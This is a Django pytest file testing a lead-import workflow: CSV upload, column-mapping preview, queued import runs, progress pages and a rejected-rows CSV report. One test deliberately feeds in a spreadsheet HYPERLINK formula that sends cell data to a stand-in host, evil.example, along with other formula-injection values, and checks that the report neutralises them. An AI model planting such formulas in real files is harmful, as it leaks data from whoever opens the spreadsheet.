"""The import pages: upload, mapping preview (htmx fragment), start, progress and the rejected-rows report."""

import csv
import io

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from leads.importing import import_job_run
from leads.models import ImportJob, ImportStatus, Lead
from tests.factories import SAMPLE_CSV, ImportJobFactory


def upload(name: str, content: bytes) -> SimpleUploadedFile:
    return SimpleUploadedFile(name, content, content_type="text/csv")


@pytest.mark.django_db
def test_upload_stores_the_file_and_guesses_the_mapping(sales_client, bank_source):
    response = sales_client.post(
        reverse("leads:import_upload"), {"source": bank_source.pk, "file": upload("in.csv", SAMPLE_CSV.encode())}
    )

    job = ImportJob.objects.get()
    assert response.status_code == 302
    assert response["Location"] == reverse("leads:import_job", args=[job.pk])
    assert job.mapping["Email Address"] == "email"
    assert job.mapping["No. of employees"] == "employees"


@pytest.mark.django_db
def test_upload_of_an_unusable_file_says_why_in_the_form(sales_client, bank_source):
    response = sales_client.post(
        reverse("leads:import_upload"), {"source": bank_source.pk, "file": upload("book.xlsx", b"PK\x03\x04rest")}
    )

    assert response.status_code == 200
    assert "save it as CSV first" in response.content.decode()
    assert not ImportJob.objects.exists()


@pytest.mark.django_db
def test_mapping_page_previews_rows_with_problems_on_their_cells(sales_client):
    job = ImportJobFactory()

    response = sales_client.get(reverse("leads:import_job", args=[job.pk]))

    html = response.content.decode()
    assert response.status_code == 200
    assert 'data-problem="“not-an-email” is not an email address"' in html
    assert 'data-problem="“ten” is not a whole number"' in html


@pytest.mark.django_db
def test_changing_the_mapping_rerenders_only_the_preview(sales_client, htmx_headers):
    job = ImportJobFactory()
    data = {"map-0": "external_id", "map-1": "email", "map-2": "name", "map-3": "company", "map-4": "", "map-5": ""}

    response = sales_client.post(
        reverse("leads:import_job", args=[job.pk]), data, headers=htmx_headers("import-preview")
    )

    html = response.content.decode()
    assert '<div id="import-preview">' in html
    assert "<html" not in html
    assert "is not a whole number" not in html  # employees column now skipped


@pytest.mark.django_db
def test_start_refuses_a_mapping_without_email(sales_client):
    job = ImportJobFactory()

    response = sales_client.post(reverse("leads:import_start", args=[job.pk]), {"map-0": "external_id"})

    assert response.status_code == 422
    assert "no column is mapped to email" in response.content.decode()
    assert ImportJob.objects.get().status == ImportStatus.UPLOADED


@pytest.mark.django_db
def test_start_queues_the_task_and_the_run_records_outcome_and_rejected_rows(
    sales_client, django_capture_on_commit_callbacks, monkeypatch
):
    job = ImportJobFactory()
    queued = []
    monkeypatch.setattr("outbox.publish.enqueue", lambda task, **kw: queued.append({"task": task, **kw}))
    data = {f"map-{i}": f for i, f in enumerate(["external_id", "email", "name", "company", "employees", "country"])}

    with django_capture_on_commit_callbacks(execute=True):
        response = sales_client.post(reverse("leads:import_start", args=[job.pk]), {**data, "dry_run": "0"})

    assert response.status_code == 302
    assert queued == [{"task": "leads.import_run", "job_id": job.pk}]
    import_job_run(job.pk)  # what the worker runs (a real worker runs it in tests/browser/test_import.py)
    job.refresh_from_db()
    assert (job.status, job.total_rows, job.created_count, job.rejected_count) == ("done", 2, 1, 1)
    assert job.bands == {"needs_review": 1}  # the factory's source has no ICP: a person decides
    assert Lead.objects.get().email == "ann@example.com"
    import_job_run(job.pk)  # delivered twice: the second run finds the job taken and does nothing
    assert Lead.objects.count() == 1
    assert job.row_errors.count() == 2

    progress = sales_client.get(reverse("leads:import_progress", args=[job.pk]))
    assert "Imported 2 rows" in progress.content.decode()
    assert "ICP: 1 needs review." in progress.content.decode()
    report = sales_client.get(reverse("leads:import_errors", args=[job.pk]))
    rows = list(csv.reader(io.StringIO(b"".join(report.streaming_content).decode("utf-8-sig"))))
    assert rows[0] == ["row", "column", "problem"]
    assert ["3", "Email Address", "“not-an-email” is not an email address"] in rows
    assert ["3", "No. of employees", "“ten” is not a whole number"] in rows


HOSTILE_HEADER = '=HYPERLINK("http://evil.example/?d="&A1,"Click")'


@pytest.mark.django_db
def test_rejected_rows_report_escapes_a_hostile_header_and_cell(sales_client):
    """The report echoes the uploaded headers and cells: a spreadsheet must not run them as formulas."""
    content = f'Email Address,"{HOSTILE_HEADER.replace(chr(34), chr(34) * 2)}"\r\nann@example.com,ten\r\n'
    job = ImportJobFactory(
        file=SimpleUploadedFile("evil.csv", content.encode()),
        original_name="evil.csv",
        mapping={"Email Address": "email", HOSTILE_HEADER: "employees"},
        status=ImportStatus.QUEUED,
    )
    import_job_run(job.pk)
    job.row_errors.create(row=9, column="@SUM(A1:A9)", message="-2+3 was in the cell")

    report = sales_client.get(reverse("leads:import_errors", args=[job.pk]))

    body = b"".join(report.streaming_content)
    assert body.startswith(b"\xef\xbb\xbf")  # a BOM, so Excel reads the curly quotes as UTF-8
    rows = list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))
    assert rows == [
        ["row", "column", "problem"],
        ["2", "'" + HOSTILE_HEADER, "“ten” is not a whole number"],
        ["9", "'@SUM(A1:A9)", "'-2+3 was in the cell"],
    ]
    assert report["Content-Disposition"] == 'attachment; filename="evil-rejected-rows.csv"'


@pytest.mark.django_db
def test_a_done_import_cannot_be_started_again(sales_client):
    job = ImportJobFactory(status=ImportStatus.DONE, dry_run=False)
    data = {f"map-{i}": f for i, f in enumerate(["external_id", "email"])}

    response = sales_client.post(reverse("leads:import_start", args=[job.pk]), data)

    assert response.status_code == 422
    assert "already been imported" in response.content.decode()


@pytest.mark.django_db
def test_import_pages_refuse_wrong_methods(sales_client):
    job = ImportJobFactory()

    assert sales_client.get(reverse("leads:import_start", args=[job.pk])).status_code == 405
    assert sales_client.post(reverse("leads:import_progress", args=[job.pk])).status_code == 405
